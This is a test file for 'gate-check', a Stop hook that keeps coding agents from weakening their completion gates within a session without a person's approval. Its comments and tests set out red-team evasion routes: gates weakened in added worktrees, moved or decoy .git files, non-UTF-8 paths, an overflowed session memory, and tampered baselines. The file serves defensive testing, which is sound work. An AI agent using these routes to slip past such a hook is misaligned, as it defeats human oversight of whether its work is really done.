// Gates weakened during a session (issue 12 §4), through the real CLI with real files: the Stop
// hook keeps the definitions it first saw in the session (in the private store), and a gate
// removed, turned manual, with CHECK/EXPECT/CWD/DEPENDS/TIMEOUT changed, or newly ABANDONed since
// then stays open as "weakened since the session began: a person must approve", even where the
// strict view would let it pass, until a person runs `gate-check hook accept` on a terminal.
// Cosmetic edits (order, whitespace, titles) are not weakening.
import { execFileSync } from 'node:child_process';
import { existsSync, linkSync, mkdirSync, readdirSync, readFileSync, realpathSync, renameSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { BIN, runCli, sandbox, writeFiles } from '../helpers/cli.js';
import { ptyDriver, startInPty } from '../helpers/process.js';
import { answerOf, blockOf, claudePayload, codexPayload } from './host-fixtures.js';

const A = ['- [ ] A: the greeting script greets', '  CHECK: node greet.mjs', '  EXPECT: hello', '  CWD: scripts', '  DEPENDS: scripts/greet.mjs', '  TIMEOUT: 30', ''].join('\n');
const M = '- [x] M: wording approved\n  EVIDENCE: approved by Ada on 2026-11-02\n';

/** A repository whose runnable gate A passed through a real `gate-check --approve` run, and a met manual gate M. */
function passed() {
  const s = sandbox();
  writeFiles(s.repo, { 'GATES.md': A + '\n' + M, 'scripts/greet.mjs': "console.log('hello');\n" });
  const run = (args: string[]) => runCli(args, { cwd: s.repo, env: s.env });
  expect(run(['--approve']).code).toBe(0);
  expect(run(['--status', '--strict']).code).toBe(0);
  const original = readFileSync(join(s.repo, 'GATES.md'), 'utf8');
  const stop = (session = 'session-1') => answerOf('claude', runCli(['hook', 'stop', '--host', 'claude'], { cwd: s.repo, env: s.env, input: JSON.stringify(claudePayload(s.repo, { session })) }));
  const setLedger = (text: string) => writeFileSync(join(s.repo, 'GATES.md'), text);
  return { ...s, run, stop, original, setLedger };
}

/** The ledger with gate A's block (from its line to the blank line after it) replaced. */
function withGateA(ledger: string, edit: (block: string) => string): string {
  const start = ledger.indexOf('- [x] A:');
  const end = ledger.indexOf('\n\n', start);
  return ledger.slice(0, start) + edit(ledger.slice(start, end + 1)) + ledger.slice(end + 1);
}

const WEAKENINGS: Array<[string, (ledger: string) => string, string]> = [
  ['removed', (l) => withGateA(l, () => ''), 'removed'],
  ['turned manual (and ticked by hand: met in the strict view)', (l) => withGateA(l, () => '- [x] A: the greeting script greets\n  EVIDENCE: looked at it, it greets\n'), 'turned manual'],
  ['CHECK changed', (l) => l.replace('CHECK: node greet.mjs', 'CHECK: node greet.mjs || true'), 'CHECK changed'],
  ['EXPECT changed', (l) => l.replace('EXPECT: hello', 'EXPECT: hell'), 'EXPECT changed'],
  ['CWD changed', (l) => l.replace('CWD: scripts', 'CWD: .'), 'CWD changed'],
  ['DEPENDS changed', (l) => l.replace('DEPENDS: scripts/greet.mjs', 'DEPENDS: scripts/*.txt'), 'DEPENDS changed'],
  ['TIMEOUT changed', (l) => l.replace('TIMEOUT: 30', 'TIMEOUT: 3600'), 'TIMEOUT changed'],
  ['newly ABANDONed (a hand-off otherwise)', (l) => `${l}\nABANDON: A the greeting cannot be tested here\n`, 'newly abandoned'],
];

describe('weakened since the session began', () => {
  it('each way of weakening gate A keeps it open in this session; a new session starts from the edited ledger', () => {
    const s = passed();
    expect(s.stop()).toEqual({ kind: 'allow', note: null }); // the session's first look: its baseline
    for (const [what, edit, label] of WEAKENINGS) {
      s.setLedger(edit(s.original));
      const reason = blockOf(s.stop());
      expect(reason, what).toMatch(new RegExp(`^gate-check: 1 gate is not met: GATES:A \\(weakened since the session began: ${label}: a person must approve\\)\\.`));
      // Named as gate-check was started (round-41a F7): here, node and the script's path.
      expect(reason, what).toMatch(/A gate weakened since the session began stays open until its definition is put back, or a person approves the new one by running `\S*node \S+gate-check\.js hook accept` on a terminal in/);
      expect(reason, what).not.toContain('cannot be tested here');
      // Another session's first look is this ledger: nothing weakened there (whatever else it says).
      expect(JSON.stringify(s.stop(`fresh-${label}`)), what).not.toContain('weakened');
      s.setLedger(s.original); // put back: nothing is weakened any more
      expect(s.stop(), what).toEqual({ kind: 'allow', note: null });
    }
  });

  // Found by a new-user trial: adding INPUTS (stricter: more changes make the evidence stale)
  // kept the gate open as weakened until a person ran `hook accept`.
  it('INPUTS that only gain patterns are no weakening; INPUTS that lose one are', () => {
    const s = passed();
    writeFiles(s.repo, { 'scripts/words.txt': 'hello\n', 'scripts/more.txt': 'more\n' });
    s.setLedger(s.original.replace('  TIMEOUT: 30\n', '  TIMEOUT: 30\n  INPUTS: scripts/words.txt\n'));
    expect(s.run([]).code).toBe(0); // re-run for its new INPUTS: no new approval
    expect(s.stop()).toEqual({ kind: 'allow', note: null }); // the baseline has INPUTS: scripts/words.txt
    const gained = readFileSync(join(s.repo, 'GATES.md'), 'utf8').replace('INPUTS: scripts/words.txt', 'INPUTS: scripts/words.txt, scripts/more.txt');
    s.setLedger(gained);
    expect(s.run([]).code).toBe(0);
    expect(s.stop()).toEqual({ kind: 'allow', note: null });
    const lost = readFileSync(join(s.repo, 'GATES.md'), 'utf8').replace('INPUTS: scripts/words.txt, scripts/more.txt', 'INPUTS: scripts/more.txt');
    s.setLedger(lost);
    expect(s.run([]).code).toBe(0);
    expect(blockOf(s.stop())).toMatch(/^gate-check: 1 gate is not met: GATES:A \(weakened since the session began: INPUTS changed: a person must approve\)\./);
  });

  it('deleting every ledger removes every gate of the baseline: both stay open', () => {
    const s = passed();
    expect(s.stop()).toEqual({ kind: 'allow', note: null });
    rmSync(join(s.repo, 'GATES.md'));
    expect(blockOf(s.stop())).toMatch(
      /^gate-check: 2 gates are not met: GATES:A \(weakened since the session began: removed: a person must approve\); GATES:M \(weakened since the session began: removed: a person must approve\)\./,
    );
    expect(s.stop('another-session')).toEqual({ kind: 'allow', note: null });
  });

  it('a gate added during the session joins the baseline: removing it again is weakening', () => {
    const s = passed();
    expect(s.stop()).toEqual({ kind: 'allow', note: null });
    s.setLedger(s.original + '- [x] N: new docs reviewed\n  EVIDENCE: reviewed by Ada\n');
    expect(s.stop()).toEqual({ kind: 'allow', note: null });
    s.setLedger(s.original);
    expect(blockOf(s.stop())).toMatch(/^gate-check: 1 gate is not met: GATES:N \(weakened since the session began: removed: a person must approve\)/);
  });

  it('weakening is no progress: the count goes on, and the release names the weakened gate', () => {
    const s = passed();
    expect(s.stop()).toEqual({ kind: 'allow', note: null });
    s.setLedger(WEAKENINGS[1]![1](s.original));
    for (let i = 0; i < 6; i++) blockOf(s.stop());
    const r = s.stop();
    expect(r).toEqual({ kind: 'allow', note: expect.stringMatching(/^gate-check: released: 1 gate still open: GATES:A \(weakened since the session began: turned manual: a person must approve\)\./) });
  });

  it('cosmetic edits are not weakening: reordered gates, blank lines, trailing spaces, new titles (a run proves a new one), a gate moved to another ledger', () => {
    const s = passed();
    expect(s.stop()).toEqual({ kind: 'allow', note: null });
    const a = s.original.slice(0, s.original.indexOf('\n\n') + 1);
    const rest = s.original.slice(s.original.indexOf('\n\n') + 2);
    const cosmetic = [
      `${rest}\n${a}`, // M before A
      s.original.replace('\n\n', '\n\n\n\n'),
      s.original.replace('greets\n', 'greets   \n'),
      s.original.replace('wording approved', 'the wording was approved by a person'),
      a, // M moved to gates/m.md (below)
      s.original.replace('the greeting script greets', 'the greeting script says hello'), // last: its run proves the new title
    ];
    const retitled = s.original.replace('the greeting script greets', 'the greeting script says hello');
    for (const text of cosmetic) {
      rmSync(join(s.repo, 'gates'), { recursive: true, force: true });
      s.setLedger(text);
      if (text === a) writeFiles(s.repo, { 'gates/m.md': rest });
      if (text === retitled) {
        // A new title is a new claim: not weakening (no person is asked), but its pass proved the
        // old one, so the hook asks for a run, which needs no approval (round-8c attack).
        expect(s.run(['--status', '--strict']).stdout).toContain('the title or the text in its item changed since the passing run');
        const reason = blockOf(s.stop());
        expect(reason).toContain('the title or the text in its item changed since the passing run');
        expect(reason).not.toContain('weakened');
        expect(s.run([]).code).toBe(0);
      }
      expect(s.run(['--status', '--strict']).code).toBe(0); // met and verified
      expect(s.stop()).toEqual({ kind: 'allow', note: null });
    }
  });

  it('a session baseline that cannot be trusted blocks', () => {
    const s = passed();
    expect(s.stop()).toEqual({ kind: 'allow', note: null });
    const hooks = join(s.home, '.gate-check', 'hooks');
    const [file] = readdirSync(hooks).filter((f) => f.startsWith('baseline-'));
    const doc = JSON.parse(readFileSync(join(hooks, file!), 'utf8')) as Record<string, unknown>;
    for (const bad of ['nope', JSON.stringify({ ...doc, extra: 1 }), JSON.stringify({ ...doc, root: '/elsewhere' }), JSON.stringify({ ...doc, gates: [{}] })]) {
      writeFileSync(join(hooks, file!), bad, { mode: 0o600 });
      expect(blockOf(s.stop())).toMatch(/^gate-check: cannot read the gates \(.*invalid session baseline/);
    }
  });
});

// Round-39a F3: the baseline was kept per checkout. The agent added a worktree, weakened a
// gate there, and stopped in it (a Codex cwd, a bound sub-agent's project directory): no
// baseline, so the session began anew there and the stop was let through.
describe('one baseline per session in every worktree of the repository', () => {
  const G1 = '- [ ] G1: the main work is done\n  CHECK: echo nope\n  EXPECT: yes\n';
  const A1 = '- [ ] A1: unknown ids answer 404\n  CHECK: echo nope\n  EXPECT: 404\n';
  const git = (cwd: string, args: string[]) => execFileSync('git', ['-c', 'user.email=t@t', '-c', 'user.name=t', ...args], { cwd, stdio: 'ignore' });

  function withWorktree() {
    const s = sandbox();
    writeFiles(s.repo, { 'GATES.md': G1, '.gate-check/api/work.md': A1 });
    git(s.repo, ['init', '-q']);
    git(s.repo, ['add', '-A']);
    git(s.repo, ['commit', '-qm', 'gates']);
    const stop = (cwd: string, o: { session?: string; agent?: string } = {}) => answerOf('codex', runCli(['hook', 'stop', '--host', 'codex'], { cwd, env: s.env, input: JSON.stringify(codexPayload(cwd, { session: 's1', ...o })) }));
    return { ...s, stop, wt: join(s.home, '..', 'wt') };
  }

  it('a gate seen in one worktree and removed or turned manual in another stays open there', () => {
    const s = withWorktree();
    expect(runCli(['hook', 'bind', '--session', 'sub1', '--scope', 'api'], { cwd: s.repo, env: s.env }).code).toBe(0);
    expect(blockOf(s.stop(s.repo))).toMatch(/^gate-check: 2 gates are not met/);
    git(s.repo, ['worktree', 'add', '-q', s.wt]);
    rmSync(join(s.wt, 'GATES.md'));
    writeFileSync(join(s.wt, '.gate-check', 'api', 'work.md'), '- [x] A1: unknown ids answer 404\n  EVIDENCE: checked by hand\n');
    const main = blockOf(s.stop(s.wt));
    expect(main).toMatch(/work:A1 \(weakened since the session began: turned manual: a person must approve\)/);
    expect(main).toMatch(/GATES:G1 \(weakened since the session began: removed: a person must approve\)/);
    expect(blockOf(s.stop(s.wt, { agent: 'sub1' }))).toMatch(/^gate-check: 1 gate is not met: work:A1 \(weakened since the session began: turned manual/);
    // Again: the worktree's own baseline, taken at its first look, is of the weakened ledger;
    // the repository's still holds (round-39c F1, against a build that compared only one).
    expect(blockOf(s.stop(s.wt))).toMatch(/work:A1 \(weakened since the session began: turned manual/);
    expect(blockOf(s.stop(s.wt, { agent: 'sub1' }))).toMatch(/^gate-check: 1 gate is not met: work:A1 \(weakened since the session began: turned manual/);
    // The main checkout is untouched: its gates are open, as they were.
    expect(blockOf(s.stop(s.repo))).toMatch(/^gate-check: 2 gates are not met: GATES:G1 \(unchecked\)/);
  });

  // Round-39n N2: a worktree in the home folder (which holds the private store) whose `.git`
  // is moved to the home folder as a link, git's work tree set back to it by core.worktree.
  // Round-39o O2: the same with a plain `.git` file in the home folder, and git files that git
  // takes while gate-check's stricter reading did not: a blank line after HEAD's ref, "ref:" and
  // the ref on two lines, a commondir that is a link. The home folder was passed over again.
  it("a worktree whose .git was moved into the home folder keeps the repository's baseline, as a link or a file, whatever git files git still takes", () => {
    const asIs = () => {};
    for (const [link, odd] of [
      [true, asIs],
      [false, (admin: string) => writeFileSync(join(admin, 'HEAD'), 'ref: refs/heads/w\n\n')],
      [false, (admin: string) => writeFileSync(join(admin, 'HEAD'), 'ref:\nrefs/heads/w\n')],
      [false, (admin: string) => {
        renameSync(join(admin, 'commondir'), join(admin, '..', 'cd'));
        symlinkSync(join(admin, '..', 'cd'), join(admin, 'commondir'));
      }],
      // And one git no longer takes: the home folder holds a `.git` that names the repository all the same.
      [false, (admin: string) => rmSync(join(admin, 'HEAD'))],
    ] as const) {
      const s = withWorktree();
      expect(blockOf(s.stop(s.repo))).toMatch(/^gate-check: 2 gates are not met/);
      const wt = join(s.home, 'w');
      git(s.repo, ['worktree', 'add', '-q', wt]);
      writeFileSync(join(wt, 'GATES.md'), '- [x] G1: the main work is done\n  EVIDENCE: checked by hand\n');
      if (link) {
        renameSync(join(wt, '.git'), join(s.home, '.gitfile'));
        symlinkSync('.gitfile', join(s.home, '.git'));
      } else {
        renameSync(join(wt, '.git'), join(s.home, '.git'));
      }
      git(s.repo, ['config', 'extensions.worktreeConfig', 'true']);
      const admin = join(s.repo, '.git', 'worktrees', 'w');
      writeFileSync(join(admin, 'config.worktree'), `[core]\n\tworktree = ${wt}\n`);
      odd(admin);
      if (existsSync(join(admin, 'HEAD'))) expect(execFileSync('git', ['rev-parse', '--show-toplevel'], { cwd: wt, encoding: 'utf8' }).trim()).toBe(realpathSync(wt)); // git works there
      // The home folder is then the work tree's top, as its `.git` says, and the private store in
      // it lies inside that tree: refused, so the stop is held until that is undone.
      const block = blockOf(s.stop(wt));
      expect(block, String(odd)).toMatch(/\/home\/\.gate-check: is inside the repository /);
      if (link) expect(block).toMatch(/^gate-check: the Stop hook could not check the gates \(.*\/home\/\.gate-check: is inside the repository /);
    }
  });

  // The other side of that rule: a home folder that is a git repository of its own (dotfiles)
  // is not the project of a session in a repository below it; its store must not hold that stop.
  it('a dotfiles repository in the home folder does not hold a stop in a project below it', () => {
    const s = withWorktree();
    git(s.home, ['init', '-q']);
    writeFileSync(join(s.home, 'GATES.md'), '- [ ] H: a gate of the home folder\n');
    const project = join(s.home, 'proj');
    writeFiles(project, { 'GATES.md': '- [x] M: wording approved\n  EVIDENCE: approved by Ada\n' });
    git(project, ['init', '-q']);
    expect(s.stop(project)).toMatchObject({ kind: 'allow' });
  });

  // Round-39o O3: no worktree. A blank line after the main checkout's HEAD ref (git works on),
  // a repository made in a folder below it, and the ledger deleted: a stop in that folder
  // looked no further than its own top level, and the checkout's memory was never read.
  it('a repository made below the checkout does not hide it, whatever its HEAD', () => {
    // A HEAD git still takes, and none at all (git fails there; the checkout's memory still holds).
    for (const odd of [(head: string) => writeFileSync(head, `${readFileSync(head, 'utf8')}\n`), (head: string) => rmSync(head)]) {
    const s = withWorktree();
    expect(blockOf(s.stop(s.repo))).toMatch(/^gate-check: 2 gates are not met/);
    git(s.repo, ['rm', '-rq', 'GATES.md', '.gate-check']);
    git(s.repo, ['-c', 'user.email=t@t', '-c', 'user.name=t', 'commit', '-qm', 'drop']);
    const sub = join(s.repo, 'sub');
    mkdirSync(sub);
    git(sub, ['init', '-q']);
    odd(join(s.repo, '.git', 'HEAD'));
    expect(blockOf(s.stop(sub)), String(odd)).toMatch(/GATES\.md had open gates when the Stop hook last looked, and they are gone/);
    }
  });

  // Round-39r R1: the session's first stop in the main checkout; then a worktree added, its
  // gate turned manual, and its `.git` file moved away (or replaced by a decoy repository's)
  // for its first stop: it belonged to no repository, or to another, and took a fresh baseline
  // of the weakened ledger. The repository's own records still list the worktree.
  it("a worktree whose .git was moved away or replaced is held against the repository the session was seen in", () => {
    const WEAK = '- [x] A1: unknown ids answer 404\n  EVIDENCE: checked by hand\n';
    // Round-39s S1: the record spelled as git still reads it: relative to its own folder (git
    // 2.48's worktree.useRelativePaths), or naming the worktree without its final `/.git`.
    const record = (wt: string, text: string) => writeFileSync(join(wt, '..', 'repo', '.git', 'worktrees', 'wt', 'gitdir'), `${text}\n`);
    const away = (wt: string) => renameSync(join(wt, '.git'), join(wt, '.git.off'));
    for (const hide of [
      away,
      (wt: string) => {
        rmSync(join(wt, '.git'));
        git(wt, ['init', '-q']);
      },
      (wt: string) => {
        record(wt, '../../../../wt/.git');
        away(wt);
      },
      (wt: string) => {
        record(wt, realpathSync(wt));
        away(wt);
      },
      (wt: string) => {
        record(wt, `${realpathSync(wt)}/`);
        away(wt);
      },
    ]) {
      const s = withWorktree();
      expect(blockOf(s.stop(s.repo))).toMatch(/^gate-check: 2 gates are not met/);
      git(s.repo, ['worktree', 'add', '-q', s.wt]);
      writeFileSync(join(s.wt, '.gate-check', 'api', 'work.md'), WEAK);
      hide(s.wt);
      expect(blockOf(s.stop(s.wt)), String(hide)).toMatch(/work:A1 \(weakened since the session began: turned manual: a person must approve\)/);
      // Claude Code without CLAUDE_PROJECT_DIR, the same session.
      const claude = runCli(['hook', 'stop', '--host', 'claude'], { cwd: s.wt, env: s.env, input: JSON.stringify(claudePayload(s.wt, { session: 's1' })) });
      expect(blockOf(answerOf('claude', claude))).toMatch(/work:A1 \(weakened since the session began: turned manual/);
    }
  });

  it("the session's memory of its repositories is hostile JSON: one that is not exactly its shape holds the stop", () => {
    const s = withWorktree();
    expect(blockOf(s.stop(s.repo))).toMatch(/^gate-check: 2 gates are not met/);
    const hooks = join(s.home, '.gate-check', 'hooks');
    const [name] = readdirSync(hooks).filter((n) => n.startsWith('session-repositories-'));
    expect(name).toBeDefined();
    const file = join(hooks, name!);
    const good = JSON.parse(readFileSync(file, 'utf8')) as { root: string; repositories: string[] };
    expect(good.root).toBe('session:s1');
    expect(good.repositories).toEqual([`git:${realpathSync(join(s.repo, '.git'))}`]);
    for (const bad of [{ ...good, repositories: ['relative/.git'] }, { ...good, extra: 1 }, { ...good, root: 'session:s2' }, { ...good, repositories: [`${good.repositories[0]}//pkg`] }]) {
      writeFileSync(file, JSON.stringify(bad));
      expect(blockOf(s.stop(s.repo)), JSON.stringify(bad)).toMatch(/invalid memory of the session's repositories/);
    }
  });

  it("a repository the session was seen in whose worktree records cannot be read holds the stop", () => {
    const s = withWorktree();
    expect(blockOf(s.stop(s.repo))).toMatch(/^gate-check: 2 gates are not met/);
    mkdirSync(Buffer.concat([Buffer.from(join(s.repo, '.git', 'worktrees') + '/'), Buffer.from([0xff])]), { recursive: true });
    expect(blockOf(s.stop(s.repo))).toMatch(/worktrees holds a name that is not UTF-8 text, so the session's baseline cannot be found/);
  });

  // Round-39s S5: the memory stopped growing at 64, and 64 stops in throwaway repositories kept
  // the real one out of it: the round-39r R1 attack worked again. Past its bound, a new
  // repository holds the stop.
  it("a session seen in more repositories than the hook remembers is held, not forgotten", () => {
    const s = withWorktree();
    const hooks = join(s.home, '.gate-check', 'hooks');
    mkdirSync(hooks, { recursive: true, mode: 0o700 });
    const other = join(s.home, '..', 'other');
    mkdirSync(other);
    writeFileSync(join(other, 'GATES.md'), '- [ ] O1: t\n  CHECK: echo ok\n  EXPECT: ok\n');
    git(other, ['init', '-q']);
    expect(s.stop(other).kind).toBe('block'); // the session's memory file is made
    const [name] = readdirSync(hooks).filter((n) => n.startsWith('session-repositories-'));
    const file = join(hooks, name!);
    const full = Array.from({ length: 1024 }, (_, i) => `git:/gone/r${String(i).padStart(4, '0')}/.git`);
    writeFileSync(file, JSON.stringify({ root: 'session:s1', repositories: full }));
    expect(blockOf(s.stop(s.repo))).toMatch(/this session was seen in more than 1024 git repositories/);
    // One it remembers already is no new one.
    writeFileSync(file, JSON.stringify({ root: 'session:s1', repositories: [...full.slice(1), `git:${realpathSync(join(s.repo, '.git'))}`] }));
    expect(blockOf(s.stop(s.repo))).toMatch(/^gate-check: 2 gates are not met/);
  });

  // Round-39p P1: the repository's git folder moved to a name that is not UTF-8 and linked back
  // (git works on in both checkouts), a decoy repository where Node's decoding of that name
  // leads: the worktree was keyed by the decoy, and its first stop took a fresh baseline.
  it('a git folder whose real path is not UTF-8 holds the stop', () => {
    const s = withWorktree();
    expect(blockOf(s.stop(s.repo))).toMatch(/^gate-check: 2 gates are not met/);
    git(s.repo, ['worktree', 'add', '-q', s.wt]);
    const odd = Buffer.concat([Buffer.from(`${dirname(s.wt)}/`), Buffer.from([0xff])]);
    renameSync(join(s.repo, '.git'), odd);
    symlinkSync(odd, join(s.repo, '.git'));
    const decoy = join(dirname(s.wt), '\ufffd');
    git(dirname(s.wt), ['init', '-q', '--bare', decoy]);
    writeFiles(join(decoy, 'worktrees', 'wt'), { HEAD: 'ref: refs/heads/wt\n', commondir: '../..\n' });
    execFileSync('git', ['status', '--short'], { cwd: s.wt }); // git still works there
    writeFileSync(join(s.wt, '.gate-check', 'api', 'work.md'), '- [x] A1: unknown ids answer 404\n  EVIDENCE: checked by hand\n');
    expect(blockOf(s.stop(s.wt))).toMatch(/resolves to a path that is not UTF-8 text/);
  });

  // Round-39o O1: a `.git` file or a commondir naming a path whose bytes are not UTF-8 (git takes
  // them as they are; decoded, they named an empty decoy folder instead): the stop is held.
  it('a .git file or a commondir that is not UTF-8 text holds the stop', () => {
    const WEAK = '- [x] A1: unknown ids answer 404\n  EVIDENCE: checked by hand\n';
    const odd = (folder: string) => Buffer.concat([Buffer.from(`${folder}/`), Buffer.from([0xff])]);
    for (const plant of [
      (wt: string, repo: string) => {
        symlinkSync(join(repo, '.git', 'worktrees', 'wt'), odd(dirname(wt)));
        writeFileSync(join(wt, '.git'), Buffer.concat([Buffer.from('gitdir: '), odd(dirname(wt)), Buffer.from('\n')]));
      },
      (wt: string, repo: string) => {
        symlinkSync(join(repo, '.git'), odd(dirname(wt)));
        writeFileSync(join(repo, '.git', 'worktrees', 'wt', 'commondir'), Buffer.concat([odd(dirname(wt)), Buffer.from('\n')]));
      },
    ]) {
      const s = withWorktree();
      expect(blockOf(s.stop(s.repo))).toMatch(/^gate-check: 2 gates are not met/);
      git(s.repo, ['worktree', 'add', '-q', s.wt]);
      plant(s.wt, s.repo);
      // The decoy: an empty folder where the decoded path leads.
      mkdirSync(join(dirname(s.wt), '\ufffd'), { recursive: true });
      execFileSync('git', ['status', '--short'], { cwd: s.wt }); // git still works there
      writeFileSync(join(s.wt, '.gate-check', 'api', 'work.md'), WEAK);
      expect(blockOf(s.stop(s.wt)), String(plant)).toMatch(/is not UTF-8 text/);
    }
  });

  // Round-39b F1, F2: the repository's name is the agent's to change: a `.git` folder swapped
  // for a `.git` file naming it elsewhere, moved away for the stop, or a worktree's gitdir
  // naming the repository through a link. The root's own baseline stays, and so does the
  // repository's as resolved.
  it("the root's own baseline and the repository's, as written and as resolved, each hold the session", () => {
    const WEAK = '- [x] A1: unknown ids answer 404\n  EVIDENCE: checked by hand\n';
    const s = withWorktree();
    expect(blockOf(s.stop(s.repo))).toMatch(/^gate-check: 2 gates are not met/);
    const hooks = join(s.home, '.gate-check', 'hooks');
    const files = readdirSync(hooks).filter((n) => n.startsWith('baseline-') && n.endsWith('.json'));
    const docs = files.map((f) => JSON.parse(readFileSync(join(hooks, f), 'utf8')));
    const root = realpathSync(s.repo);
    expect(docs.map((d) => d.root ?? d.repository).sort()).toEqual([root, `git:${root}/.git`].sort());
    expect(docs.find((d) => d.root === root)).toMatchObject({ schema: 'gate-check/hook-baseline@1', session: 's1' });
    // The .git folder swapped for a .git file naming it (git works on), and the gate weakened.
    writeFileSync(join(s.repo, '.gate-check', 'api', 'work.md'), WEAK);
    renameSync(join(s.repo, '.git'), join(s.repo, '.git-real'));
    writeFileSync(join(s.repo, '.git'), 'gitdir: .git-real\n');
    expect(blockOf(s.stop(s.repo))).toMatch(/work:A1 \(weakened since the session began: turned manual/);
    // ... or moved away for the stop.
    rmSync(join(s.repo, '.git'));
    renameSync(join(s.repo, '.git-real'), join(s.home, '..', 'away.git'));
    expect(blockOf(s.stop(s.repo))).toMatch(/work:A1 \(weakened since the session began: turned manual/);
    renameSync(join(s.home, '..', 'away.git'), join(s.repo, '.git'));
    // A worktree whose gitdir names the repository through a link: its own root is new to the session.
    git(s.repo, ['worktree', 'add', '-q', s.wt]);
    symlinkSync(s.repo, join(s.home, '..', 'mlink'));
    writeFileSync(join(s.wt, '.git'), `gitdir: ${join(s.home, '..', 'mlink', '.git', 'worktrees', 'wt')}\n`);
    writeFileSync(join(s.wt, '.gate-check', 'api', 'work.md'), WEAK);
    expect(blockOf(s.stop(s.wt))).toMatch(/work:A1 \(weakened since the session began: turned manual/);
  });

  // Round-39k F1: a worktree that gate-check's own test of a top level refused, while git
  // still uses it (a blank line added to its HEAD, or its `.git` a link), got a baseline of
  // its own at its first stop.
  it("a worktree whose git files only git still takes keeps the repository's baseline", () => {
    const WEAK = '- [x] A1: unknown ids answer 404\n  EVIDENCE: checked by hand\n';
    for (const odd of [
      (wt: string, repo: string) => writeFileSync(join(repo, '.git', 'worktrees', 'wt', 'HEAD'), `${readFileSync(join(repo, '.git', 'worktrees', 'wt', 'HEAD'), 'utf8')}\n`),
      (wt: string, repo: string) => {
        rmSync(join(wt, '.git'));
        symlinkSync(join(repo, '.git', 'worktrees', 'wt'), join(wt, '.git'));
      },
      // Round-39l F1: laid out otherwise than `git worktree add` does, git working on.
      (wt: string, repo: string) => writeFileSync(join(wt, '.git'), `gitdir: ${join(repo, '.git', 'worktrees', 'wt')}/.\n`),
      (wt: string, repo: string) => {
        const admin = join(wt, '..', 'admin');
        mkdirSync(admin);
        renameSync(join(repo, '.git', 'worktrees', 'wt'), join(admin, 'wt'));
        writeFileSync(join(admin, 'wt', 'commondir'), `${join(repo, '.git')}\n`);
        writeFileSync(join(wt, '.git'), `gitdir: ${join(admin, 'wt')}\n`);
      },
      (wt: string, repo: string) => {
        rmSync(join(wt, '.git'));
        renameSync(join(repo, '.git', 'worktrees', 'wt'), join(wt, '.git'));
        writeFileSync(join(wt, '.git', 'commondir'), `${join(repo, '.git')}\n`);
      },
      // Round-39m F1: its git folder named through a link (`..` then goes up from where it
      // leads), its commondir a link, a second hard link, or padded with newlines past 4 KiB.
      (wt: string, repo: string) => {
        symlinkSync(join(repo, '.git', 'worktrees', 'wt'), join(wt, '..', 'adm'));
        writeFileSync(join(wt, '.git'), `gitdir: ${join(wt, '..', 'adm')}\n`);
      },
      (wt: string, repo: string) => {
        const commondir = join(repo, '.git', 'worktrees', 'wt', 'commondir');
        renameSync(commondir, join(wt, '..', 'cd'));
        symlinkSync(join(wt, '..', 'cd'), commondir);
      },
      (wt: string, repo: string) => linkSync(join(repo, '.git', 'worktrees', 'wt', 'commondir'), join(wt, '..', 'cd.bak')),
      (wt: string, repo: string) => writeFileSync(join(repo, '.git', 'worktrees', 'wt', 'commondir'), `../..${'\n'.repeat(5000)}`),
      // Round-39n N1: "gitdir:  X" (two spaces) names " X" below the worktree, as git reads it,
      // here a link to the real admin folder; X itself is some other folder.
      (wt: string, repo: string) => {
        const other = join(wt, '..', 'other');
        mkdirSync(other);
        mkdirSync(join(wt, ` ${dirname(other)}`), { recursive: true });
        symlinkSync(join(repo, '.git', 'worktrees', 'wt'), join(wt, ` ${other}`));
        writeFileSync(join(wt, '.git'), `gitdir:  ${other}\n`);
      },
    ]) {
      const s = withWorktree();
      expect(blockOf(s.stop(s.repo))).toMatch(/^gate-check: 2 gates are not met/);
      git(s.repo, ['worktree', 'add', '-q', s.wt]);
      odd(s.wt, s.repo);
      execFileSync('git', ['status', '--short'], { cwd: s.wt }); // git still works there
      writeFileSync(join(s.wt, '.gate-check', 'api', 'work.md'), WEAK);
      expect(blockOf(s.stop(s.wt))).toMatch(/work:A1 \(weakened since the session began: turned manual/);
    }
    // A `.git` that names no repository (git no longer works there) holds the stop: no new baseline.
    const s = withWorktree();
    expect(blockOf(s.stop(s.repo))).toMatch(/^gate-check: 2 gates are not met/);
    git(s.repo, ['worktree', 'add', '-q', s.wt]);
    writeFileSync(join(s.wt, '.git'), 'not a gitfile\n');
    writeFileSync(join(s.wt, '.gate-check', 'api', 'work.md'), WEAK);
    expect(blockOf(s.stop(s.wt))).toMatch(/names no git repository that gate-check can read/);
  });
});

describe('a session baseline is hostile JSON: every field of every gate is checked', () => {
  it('each malformed field, duplicate gate or top-level value blocks as an invalid baseline', () => {
    const s = passed();
    expect(s.stop()).toEqual({ kind: 'allow', note: null });
    const hooks = join(s.home, '.gate-check', 'hooks');
    const [file] = readdirSync(hooks).filter((f) => f.startsWith('baseline-'));
    const doc = JSON.parse(readFileSync(join(hooks, file!), 'utf8')) as { gates: Array<Record<string, unknown>> } & Record<string, unknown>;
    const runnable = doc.gates.findIndex((g) => g.kind === 'runnable');
    const manual = doc.gates.findIndex((g) => g.kind === 'manual');
    expect(runnable).toBeGreaterThanOrEqual(0);
    expect(manual).toBeGreaterThanOrEqual(0);
    const gate = (i: number, change: Record<string, unknown>) => ({ ...doc, gates: doc.gates.map((g, j) => (j === i ? { ...g, ...change } : g)) });
    const cases: Array<[string, unknown]> = [
      ['a gate with a key of its own', gate(runnable, { extra: 1 })],
      ['file empty', gate(runnable, { file: '' })],
      ['file not a string', gate(runnable, { file: 1 })],
      ['scope not a string', gate(runnable, { scope: 1 })],
      ['id empty', gate(runnable, { id: '' })],
      ['kind unknown', gate(runnable, { kind: 'optional' })],
      ['kind unknown on a manual gate', gate(manual, { kind: 'optional' })],
      ['check not a string', gate(runnable, { check: 1 })],
      ['cwd not a string', gate(runnable, { cwd: 1 })],
      ['depends not a list', gate(runnable, { depends: 'scripts/*' })],
      ['inputs of numbers', gate(runnable, { inputs: [1] })],
      ['timeout zero', gate(runnable, { timeout: 0 })],
      ['timeout fractional', gate(runnable, { timeout: 1.5 })],
      ['abandoned not a boolean', gate(runnable, { abandoned: 'no' })],
      ['runnable def not a digest', gate(runnable, { def: 'x' })],
      ['runnable with a title digest', gate(runnable, { title: 'a'.repeat(64) })],
      ['runnable without CHECK', gate(runnable, { check: null })],
      ['runnable without EXPECT', gate(runnable, { expect: null })],
      ['manual with a def', gate(manual, { def: 'a'.repeat(64) })],
      ['manual title not a digest', gate(manual, { title: 'wording approved' })],
